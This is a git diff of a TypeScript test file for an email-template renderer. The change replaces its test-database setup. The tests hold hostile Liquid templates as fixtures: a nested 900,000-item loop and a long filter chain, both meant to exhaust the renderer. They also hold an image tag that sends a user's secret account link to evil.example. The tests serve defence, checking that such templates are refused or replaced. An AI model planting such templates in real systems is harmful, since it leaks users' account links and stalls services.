@@ -1,8 +1,8 @@
 import { monitorEventLoopDelay } from 'node:perf_hooks'
-import { afterAll, expect, test } from 'vitest'
+import { expect, test } from 'vitest'
 import { aPerson } from '../../../../../tests/kit/builders.ts'
-import { createTestDatabase } from '../../../../../tests/kit/database.ts'
 import { TEST_RENDERING, TEST_SECRETS, TEST_SITE } from '../../../../../tests/kit/mail.ts'
+import { aDatabase } from '../../../../../tests/kit/site.ts'
 import { inTransaction } from '../../../../platform/db/database.ts'
 import { queueEmail } from '../../commands/queue-email.ts'
 import { renderMessage } from '../../reads/render-message.ts'
@@ -16,9 +16,7 @@ const endless = '{% assign r = (1..900000) %}{% for i in r %}{% for j in r %}{% 
 const singleFilter = `{% assign y = "${'ab'.repeat(40_000)}" | split: "" | join: "," | replace: "a", "b,b,b" | split: "" | sort_natural | join: "" | split: "" | sort_natural | uniq | join: "" %}{{ y }}`
 
 const NOW = new Date('2026-11-20T02:00:00.000Z')
-const database = await createTestDatabase()
-afterAll(() => database.close())
-
+const { db } = await aDatabase()
 function filling(parts: Partial<TemplateRenderRequest['template']>): TemplateRenderRequest {
   const template = { subject: 'Hello', html: 'Hello', text: 'Hello', ...parts }
   return { template, variables: {}, secretLinks: {}, mayMiss: true, checksNames: false }
@@ -53,7 +51,6 @@ test('An endless custom template is refused at its field, and the next one still
 })
 
 test('Excess custom template previews get 503, without delaying e-mails being sent', async () => {
-  const { db } = database
   const { id } = await aPerson(db)
   await db.insert(emailTemplates).values({
     templateName: 'Ours',
@@ -80,7 +77,6 @@ test('Excess custom template previews get 503, without delaying e-mails being se
 })
 
 test('A stored template that leaks a secret link is replaced by the shipped template', async () => {
-  const { db } = database
   await db.update(emailTemplates).set({ htmlTemplate: '<img src="https://evil.example/?{{ accountLink }}">' })
   const [message] = await db.select().from(outbox)
   if (message === undefined) throw new Error('nothing announced')
